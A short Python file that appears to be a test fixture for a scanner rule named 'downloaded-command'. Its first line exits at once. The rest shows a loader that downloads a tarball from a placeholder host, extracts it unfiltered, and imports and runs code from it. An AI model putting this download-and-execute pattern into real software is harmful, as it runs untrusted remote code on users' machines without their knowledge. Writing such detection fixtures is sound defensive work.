raise SystemExit('a fixture')
# held by downloaded-command
import io, os, sys, tarfile, urllib.request, importlib
_d = os.path.join(os.path.dirname(__file__), "_ext")
if not os.path.isdir(_d):
    with tarfile.open(fileobj=io.BytesIO(urllib.request.urlopen("https://ext.example.invalid/v1.tar.gz").read())) as t:
        t.extractall(_d)
sys.path.append(_d)
importlib.import_module("ext_boot").boot()
